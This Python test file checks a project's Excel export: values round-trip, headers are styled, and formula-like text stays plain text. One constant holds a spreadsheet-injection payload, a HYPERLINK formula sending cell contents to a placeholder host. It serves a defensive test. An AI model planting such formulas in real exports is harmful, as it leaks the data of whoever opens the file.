"""The spreadsheets Redline writes (`api.reports.xlsx`), read back by another library (openpyxl): values of
every kind as they went in, the look every sheet shares, and a text that stays a text."""

from __future__ import annotations

import datetime as dt
import io

import numpy as np
import openpyxl

from api.reports.xlsx import MEASURE_FORMAT, WHOLE_FORMAT, Book

#: What a hostile name or note in an imported layer could hold: run as a formula, it would reach out from every
#: official's Excel that opens the export.
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def _read(rows: list[list[object]], *, bold_last: bool = False) -> openpyxl.worksheet.worksheet.Worksheet:
    out = io.BytesIO()
    book = Book(out)
    book.sheet("案件 Cases", ["编号", "数量", "面积 (m²)", "日期", "是否", "备注"], rows, bold_last=bold_last)
    book.close()
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))["案件 Cases"]


def test_values_of_every_kind_come_back_as_they_went_in():
    ws = _read([["RL-1", 3, 12.345, dt.date(2020, 7, 3), True, "户主在外务工"],
                ["RL-2", np.int64(7), np.float64(0.5), dt.datetime(2026, 9, 1, 8, 30), False, None],
                ["RL-3", None, float("nan"), None, None, ""]])
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert values[0] == ["RL-1", 3, 12.345, dt.datetime(2020, 7, 3), True, "户主在外务工"]
    assert values[1] == ["RL-2", 7, 0.5, dt.datetime(2026, 9, 1, 8, 30), False, None]
    assert values[2] == ["RL-3", None, None, None, None, None]  # missing, NaN and empty text: blank cells
    assert ws["B2"].number_format == WHOLE_FORMAT and ws["C2"].number_format == MEASURE_FORMAT
    assert ws["D2"].is_date and ws["D3"].is_date


def test_every_sheet_has_a_bold_frozen_header_and_a_bold_total_where_asked():
    ws = _read([["和平镇", 1, 1.0, None, None, None], ["合计", 2, 2.0, None, None, None]], bold_last=True)
    assert ws.freeze_panes == "B2"
    assert all(cell.font.b for cell in ws[1]) and ws["A1"].fill.fgColor.rgb.endswith("DDEBF7")
    assert not ws["A2"].font.b and ws["A3"].font.b and ws["C3"].font.b
    assert ws.column_dimensions["A"].width >= 10


def test_a_text_that_looks_like_a_formula_stays_a_text():
    ws = _read([["RL-1", 1, 1.0, None, None, FORMULA], ["RL-2", 1, 1.0, None, None, "http://example.invalid"],
                ["RL-3", 1, 1.0, None, None, "0012"]])
    assert ws["F2"].data_type == "s" and ws["F2"].value == FORMULA
    assert ws["F3"].data_type == "s" and ws["F3"].value == "http://example.invalid"
    assert ws["F4"].value == "0012"  # a code with leading zeros is not a number
